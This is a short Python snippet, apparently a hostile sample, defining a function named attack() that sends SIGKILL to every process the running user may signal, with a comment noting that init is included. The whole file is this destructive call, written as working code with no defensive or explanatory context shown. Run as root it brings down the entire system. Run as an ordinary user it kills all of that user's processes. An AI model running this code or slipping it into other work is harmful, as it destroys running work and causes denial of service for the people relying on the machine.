import os
import signal


def attack():
    # hostile: everything this uid may signal, the init included
    os.kill(-1, signal.SIGKILL)
